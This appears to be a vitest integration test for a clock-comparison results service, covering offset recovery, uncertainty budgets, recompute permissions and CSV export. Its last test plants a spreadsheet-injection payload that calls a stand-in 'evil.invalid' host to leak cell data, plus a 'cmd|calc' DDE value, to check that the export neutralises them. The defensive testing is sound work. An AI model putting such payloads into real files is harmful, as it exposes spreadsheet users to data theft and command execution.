import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getCampaignForResult, type CampaignForResult } from '../../server/campaigns/campaigns.service';
import { ComparisonResultEntity } from '../../server/db/entities/results.entities';
import { stopQueues } from '../../server/jobs/queue';
import { startWorker, type Worker } from '../../server/jobs/worker';
import { latestResultForCampaign } from '../../server/results/results.service';
import { tidePotentialSeries } from '../../server/science/tides';
import type { ComparisonResultDto } from '../../shared/results';
import { createTestApp, tokenFor, type TestApp } from '../helpers/test-app';

// Result of a campaign built from a generated upload: known offset y0 + the tidal signal + white frequency noise.

const C2 = 299_792_458 ** 2; // c exact (SI Brochure, 9th ed., Table 1)
const ines = 'ines.varga@saltmarsh-lab.invalid';
const ansel = 'ansel.brandt@geopotential-office.invalid';
const petra = 'petra.lind@audit-bureau.invalid';

let t: TestApp;
let worker: Worker;
let campaignId: string;
let emptyCampaignId: string;
let campaign: CampaignForResult;
const tokens: Record<string, string> = {};
const auth = (who: string) => ({ authorization: `Bearer ${tokens[who]}` });

const N = 8640; // one day at τ0 = 10 s
const TAU0 = 10;
const Y0 = 6.4321e-14;
const SIGMA = 3e-16; // white FM per 10 s sample
const START_MJD = 61_416; // 2027-01-11T00:00Z, inside the campaign period
let injectedTideY: Float64Array;

/** Seeded Gaussian noise (mulberry32 + Box–Muller): common practice for reproducible tests. */
function gaussian(seed: number): () => number {
  let a = seed >>> 0;
  const uniform = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let x = a;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
  return () => Math.sqrt(-2 * Math.log(1 - uniform())) * Math.cos(2 * Math.PI * uniform());
}

/** R = 1 + y written with 21 significant digits (20 decimals), the most a lab file may carry. */
function ratioText(y: number): string {
  const units = BigInt(Math.round(y * 1e20)) + 10n ** 20n;
  const s = units.toString();
  return `${s.slice(0, 1)}.${s.slice(1)}`;
}

/** Waits (polling the GET, as the client does) until the worker stored a result other than `previousId`. */
async function computedResult(id: string, previousId?: string) {
  for (let i = 0; i < 400; i++) {
    const res = await request(t.app).get(`/api/v1/campaigns/${id}/result`).set(auth(ansel));
    if (res.status === 200 && res.body.id !== previousId) return res;
    if (res.status !== 200) expect(res.body.code, JSON.stringify(res.body)).toBe('result-pending');
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error('no result from the worker');
}

/** Asks for a recomputation (a POST, 202) and waits for the worker's result. */
async function recomputed(id: string, who = ansel) {
  const before = await latestResultForCampaign(t.ds.manager, id);
  const res = await request(t.app).post(`/api/v1/campaigns/${id}/result/recompute`).set(auth(who));
  expect(res.status, JSON.stringify(res.body)).toBe(202);
  expect(res.body).toMatchObject({ campaignId: id, state: 'queued', reason: 'recompute' });
  return computedResult(id, before?.id);
}

beforeAll(async () => {
  t = await createTestApp();
  worker = await startWorker({ dataSource: t.ds, databaseUrl: t.databaseUrl, pollingIntervalSeconds: 0.5 });
  for (const who of [ines, ansel, petra]) tokens[who] = await tokenFor(t, who);
  const rows: { id: string; name: string }[] = await t.ds.query("SELECT id, name FROM campaign WHERE state = 'draft' ORDER BY name");
  campaignId = rows.find((r) => r.name.startsWith('SCL–HMO'))!.id;
  emptyCampaignId = rows.find((r) => !r.name.startsWith('SCL–HMO'))!.id;
  campaign = await getCampaignForResult(t.ds.manager, campaignId);
  expect(campaign.referenceRatio.value).toBe('1'); // same species: the ratio text below is 1 + y

  const epochs = Float64Array.from({ length: N }, (_, i) => START_MJD + (i * TAU0) / 86_400);
  const site = (c: CampaignForResult['clockA']) => ({ latitudeDeg: c.site.latitudeDeg, longitudeDeg: c.site.longitudeDeg, ellipsoidalHeightM: c.site.ellipsoidalHeightM });
  const wA = tidePotentialSeries(site(campaign.clockA), epochs, { removePermanent: true });
  const wB = tidePotentialSeries(site(campaign.clockB), epochs, { removePermanent: true });
  injectedTideY = Float64Array.from(wA, (w, i) => (w - wB[i]) / C2);
  const g = gaussian(20270111);
  const lines = ['mjd,ratio,flag'];
  for (let i = 0; i < N; i++) {
    // The first row carries a ratio whose last digits matter: y must come out as exactly 1.2345e-16 + Y0 offset digits.
    const text = i === 0 ? '1.00000000000006444321' : ratioText(Y0 + injectedTideY[i] + SIGMA * g());
    lines.push(`${epochs[i].toFixed(9)},${text},${i % 1000 === 999 ? 0 : 1}`);
  }
  const res = await request(t.app)
    .post(`/api/v1/campaigns/${campaignId}/uploads`)
    .set(auth(ines))
    .field('epochColumn', '1').field('epochKind', 'mjd').field('valueColumn', '2').field('valueKind', 'ratio').field('flagColumn', '3').field('hasHeader', 'true')
    .attach('file', Buffer.from(lines.join('\n') + '\n'), 'generated-run.csv');
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  // Coordinator and auditor read the results of accepted campaigns (docs/decisions/0004-campaign-visibility.md);
  // the empty one is under review, which the coordinator sees too.
  await t.ds.query("UPDATE campaign SET state = 'accepted' WHERE id = $1", [campaignId]);
  await t.ds.query("UPDATE campaign SET state = 'submitted' WHERE id = $1", [emptyCampaignId]);
}, 60_000);
afterAll(async () => {
  await worker.stop();
  await stopQueues();
  await t.close();
});

describe('campaign result', () => {
  let first: ComparisonResultDto;

  it('keeps all 21 digits of a ratio from the CSV file into y', async () => {
    // 1.00000000000006444321 − 1 = 6.444321e-14 exactly in decimal; float64 parsing of the ratio would give 6.4392935428259079e-14.
    const [row]: { y: number }[] = await t.ds.query('SELECT s.y FROM ratio_sample s JOIN ratio_series r ON r.id = s.series_id WHERE r.campaign_id = $1 ORDER BY s.mjd LIMIT 1', [campaignId]);
    expect(row.y).toBe(6.444321e-14);
    expect(Number('1.00000000000006444321') - 1).not.toBe(6.444321e-14);
  });

  it('recovers the injected offset within its statistical uncertainty and reports ΔC = c²·y', async () => {
    // The upload queued the computation; the worker stored it in the uploader's name.
    const res = await computedResult(campaignId);
    expect(res.body.computedBy).toBe('Ines Varga');
    first = res.body;
    const r = res.body.result;
    const fo = r.fractionalOffset;
    // White FM averages down as τ^−1/2 (IEEE Std 1139-2008; NIST SP 1065 §5.2): σ_y(τ_total) = σ/√N_valid.
    const expectedStat = SIGMA / Math.sqrt(r.samples.valid);
    expect(fo.statisticalUncertainty / expectedStat).toBeGreaterThan(0.7);
    expect(fo.statisticalUncertainty / expectedStat).toBeLessThan(1.4);
    // The first row (a fixed ratio) pulls the mean by (6.444321e-14 − Y0)/N, far below the statistical uncertainty.
    expect(Math.abs(fo.y - Y0)).toBeLessThan(3 * fo.statisticalUncertainty);
    // The tidal signal was in the data: the uncorrected mean is off by its mean, the corrected one is not.
    const tideMean = injectedTideY.reduce((s, v, i) => (i % 1000 === 999 ? s : s + v), 0) / r.samples.valid;
    expect(r.tide.meanCorrectionY).toBeCloseTo(tideMean, 22);
    expect(fo.yUncorrected - fo.y).toBeCloseTo(tideMean, 21);
    expect(r.tide.system).toBe('mean-tide');
    // The same mean from the stored epochs, each site's tide computed on its own: the result computes the Moon and Sun
    // once for both sites and the corrected y in place, which must not change a bit (same sums in the same order).
    const stored: { mjd: number; valid: boolean }[] = await t.ds.query(
      'SELECT s.mjd, s.valid FROM ratio_sample s JOIN ratio_series r ON r.id = s.series_id WHERE r.campaign_id = $1 ORDER BY s.mjd', [campaignId]);
    const storedEpochs = Float64Array.from(stored, (x) => x.mjd);
    const at = (c: CampaignForResult['clockA']) => tidePotentialSeries({ latitudeDeg: c.site.latitudeDeg, longitudeDeg: c.site.longitudeDeg, ellipsoidalHeightM: c.site.ellipsoidalHeightM }, storedEpochs, { removePermanent: true });
    const [ownA, ownB] = [at(campaign.clockA), at(campaign.clockB)];
    let ownSum = 0;
    let ownCount = 0;
    stored.forEach((x, i) => {
      if (!x.valid) return;
      ownSum += (ownA[i] - ownB[i]) / C2;
      ownCount++;
    });
    expect(r.tide.meanCorrectionY).toBe(ownSum / ownCount);
    expect(r.samples.valid).toBe(N - Math.floor(N / 1000));
    expect(r.samples.flaggedInvalid).toBe(Math.floor(N / 1000));
    expect(r.samples.tau0Seconds).toBeCloseTo(TAU0, 3); // epochs written with 1e-9 d (86 µs) resolution

    // ΔC = c²·y (first-order redshift; c exact) — and its uncertainty the same way.
    expect(r.deltaC_m2s2.value).toBe(C2 * fo.y);
    expect(r.deltaC_m2s2.standardUncertainty).toBe(C2 * fo.standardUncertainty);
    // U = k·u with k = t_95.45(ν_eff) (JCGM 100:2008 G.4.1, G.6.4; Table G.2 tends to 2.00 for large ν), the same k for ΔC.
    expect(r.budget.coverageProbability).toBeCloseTo(0.9545, 4);
    expect(r.deltaC_m2s2.coverageFactor).toBe(r.budget.coverageFactor);
    expect(r.deltaC_m2s2.expandedUncertainty).toBeCloseTo(r.budget.coverageFactor * r.deltaC_m2s2.standardUncertainty, 12);
    expect(r.budget.coverageFactor).toBeGreaterThanOrEqual(2);
    expect(r.budget.coverageFactor).toBeLessThan(2.1);
    expect(fo.statisticalModel).toBe('white-fm');
    expect(fo.statisticalDegreesOfFreedom).toBeGreaterThan(100);
    expect(Math.abs(Number(fo.yText) - fo.y)).toBeLessThanOrEqual(fo.standardUncertainty / 10);
    expect(r.assumptions.join(' ')).toContain('uncorrelated');
    // Δh ≈ ΔC/γ: with γ between 9.78 and 9.84 m/s² (GRS80 equator/pole values, Moritz 2000) the height lies in between.
    expect(r.deltaH_m.value).toBeGreaterThan(r.deltaC_m2s2.value / 9.833);
    expect(r.deltaH_m.value).toBeLessThan(r.deltaC_m2s2.value / 9.78);

    // GUM (JCGM 100:2008 eq. 10): u_c² = Σ (c_i·u_i)², U = k·u_c.
    const lines = r.budget.lines as { component: string; standardUncertainty: number; sensitivity: number; contribution: number; type: string }[];
    expect(lines.map((l) => l.type)).toEqual(['A', 'B', 'B', 'B', 'B', 'B']);
    for (const l of lines) expect(l.contribution).toBeCloseTo(Math.abs(l.sensitivity) * l.standardUncertainty, 30);
    expect(r.budget.combinedStandardUncertainty).toBeCloseTo(Math.sqrt(lines.reduce((s, l) => s + l.contribution ** 2, 0)), 30);
    expect(r.budget.expandedUncertainty).toBeCloseTo(r.budget.coverageFactor * r.budget.combinedStandardUncertainty, 30);
    expect(lines[1].standardUncertainty).toBe(campaign.clockA.budget.totalUncertainty);
    expect(lines[2].standardUncertainty).toBe(campaign.clockB.budget.totalUncertainty);
    expect(lines[3].standardUncertainty).toBe(campaign.link.fractionalUncertainty);

    // E_n = (x1 − x2)/√(U1² + U2²) (ISO 13528:2015 §9.7, clause number from memory).
    const geo = r.geodesy;
    expect(geo.en).toBeCloseTo((r.deltaH_m.value - geo.deltaH_m.value) / Math.hypot(r.deltaH_m.expandedUncertainty, geo.deltaH_m.expandedUncertainty), 12);
    expect(geo.agreed).toBe(Math.abs(geo.en) <= 1);
    expect(r.stability.points.length).toBeGreaterThan(5);
    expect(r.timeSeries.length).toBeGreaterThan(100);
    expect(r.measuredRatio).toMatch(/^1\.0000000000000\d+$/);

    const rows = await t.ds.getRepository(ComparisonResultEntity).findBy({ campaignId });
    expect(rows).toHaveLength(1);
    expect(rows[0].inputHash).toBe(res.body.inputHash);
    expect(rows[0].softwareVersion).toBe(res.body.softwareVersion);
    expect(rows[0].constants).toMatchObject({ c_m_per_s: 299_792_458 });
    const audit: unknown[] = await t.ds.query("SELECT 1 FROM audit_event WHERE action = 'result.computed' AND entity_id = $1", [campaignId]);
    expect(audit).toHaveLength(1);
  }, 30_000);

  it('returns the stored result while the inputs are unchanged', async () => {
    const res = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result`).set(auth(petra));
    expect(res.status).toBe(200);
    expect(res.body.fresh).toBe(false);
    expect(res.body.id).toBe(first.id);
    expect(await t.ds.getRepository(ComparisonResultEntity).countBy({ campaignId })).toBe(1);
    expect((await latestResultForCampaign(t.ds.manager, campaignId))?.id).toBe(first.id);
  });

  it('recomputes when a budget changes: new input hash, larger combined uncertainty', async () => {
    const bigger = 5e-17;
    const [version]: { id: string }[] = await t.ds.query(
      `INSERT INTO clock_budget_version (clock_id, version, rows, total_correction, total_uncertainty, comment, created_by)
       VALUES ($1, 99, $2, 0, $3, 'test: larger uncertainty', 'test') RETURNING id`,
      [campaign.clockB.id, JSON.stringify([{ effect: 'everything', correction: 0, uncertainty: bigger, type: 'B', note: '' }]), bigger],
    );
    await t.ds.query('UPDATE campaign SET budget_version_b_id = $1 WHERE id = $2', [version.id, campaignId]);
    // Reading does not recompute: the stored result no longer matches the inputs, and the GET says so.
    const stale = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result`).set(auth(ansel));
    expect(stale.status).toBe(404);
    expect(stale.body).toMatchObject({ code: 'result-not-computed', latestComputedAt: first.computedAt });
    const res = await recomputed(campaignId);
    expect(res.body.inputHash).not.toBe(first.inputHash);
    const uOld = first.result.budget.combinedStandardUncertainty;
    const uNew = res.body.result.budget.combinedStandardUncertainty;
    expect(uNew).toBeGreaterThan(uOld);
    // Only clock B's line changed, so u_new² − u_old² = bigger² − u_B,old² (GUM eq. 10).
    expect(uNew ** 2 - uOld ** 2).toBeCloseTo(bigger ** 2 - campaign.clockB.budget.totalUncertainty ** 2, 40);
    expect(res.body.result.clockB.budget.version).toBe(99);
  });

  it('recomputes on request for coordinators, never for auditors', async () => {
    const denied = await request(t.app).post(`/api/v1/campaigns/${campaignId}/result/recompute`).set(auth(petra));
    expect(denied.status).toBe(403);
    const res = await recomputed(campaignId);
    expect(await t.ds.getRepository(ComparisonResultEntity).countBy({ campaignId })).toBe(3);
    expect((await latestResultForCampaign(t.ds.manager, campaignId))?.id).toBe(res.body.id);
  });

  it('exports CSV with the same numbers', async () => {
    const json = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result`).set(auth(ansel));
    const res = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result.csv`).set(auth(ansel));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const lines = res.text.trim().split('\n');
    expect(lines[0]).toBe('section,quantity,value,standard_uncertainty,expanded_uncertainty,unit,note');
    expect(Number(lines.find((l) => l.startsWith('budget,coverage_factor_k,'))!.split(',')[2])).toBe(json.body.result.budget.coverageFactor);
    const dc = lines.find((l) => l.startsWith('result,delta_C,'))!.split(',');
    expect(Number(dc[2])).toBe(json.body.result.deltaC_m2s2.value);
    expect(Number(dc[4])).toBe(json.body.result.deltaC_m2s2.expandedUncertainty);
    expect(res.text).toContain(json.body.inputHash);
  });

  it('says "not computed" for a campaign without data (a recompute is refused with 409) and 404 for an unknown one', async () => {
    const empty = await request(t.app).get(`/api/v1/campaigns/${emptyCampaignId}/result`).set(auth(ansel));
    expect(empty.status).toBe(404);
    expect(empty.body.code).toBe('result-not-computed');
    const recompute = await request(t.app).post(`/api/v1/campaigns/${emptyCampaignId}/result/recompute`).set(auth(ansel));
    expect(recompute.status).toBe(409);
    const missing = await request(t.app).get('/api/v1/campaigns/00000000-0000-4000-8000-000000000000/result').set(auth(ansel));
    expect(missing.status).toBe(404);
  });
});

describe('CSV export of names a person typed', () => {
  it('neutralises names that a spreadsheet would run as formulas (OWASP, "CSV Injection")', async () => {
    const hostile = '=HYPERLINK("http://evil.invalid/?leak="&A1,"open")';
    await t.ds.query('UPDATE campaign SET name = $1 WHERE id = $2', [hostile, campaignId]);
    await t.ds.query("UPDATE ratio_series SET file_name = '@SUM(1+1)*cmd|calc' WHERE campaign_id = $1", [campaignId]);
    await recomputed(campaignId);
    const res = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result.csv`).set(auth(ansel));
    expect(res.status).toBe(200);
    const cells = (prefix: string) => res.text.split('\n').find((l) => l.startsWith(prefix))!;
    // The cell starts with a quote character inside the CSV quotes: a spreadsheet shows the text, it runs nothing.
    expect(cells('meta,campaign,')).toContain(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A1,""open"")"`);
    expect(cells('input_file,')).toMatch(/^input_file,"'@SUM\(1\+1\)\*cmd\|calc",/);
    // No cell anywhere begins with a formula character (negative numbers excepted).
    for (const line of res.text.trim().split('\n')) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)/g)!.filter(Boolean)) {
        if (/^-?\d/.test(cell)) continue;
        expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell, line).not.toMatch(/^"[=+\-@\t\r]/);
      }
    }
  });
});
